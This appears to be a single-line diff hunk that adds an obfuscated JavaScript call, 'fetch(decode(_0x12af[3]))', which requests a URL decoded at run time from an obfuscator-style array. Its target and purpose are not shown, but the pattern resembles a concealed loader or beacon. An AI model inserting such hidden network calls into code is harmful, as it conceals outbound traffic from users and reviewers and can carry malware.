@@ -1,0 +1,1 @@
+fetch(decode(_0x12af[3]));
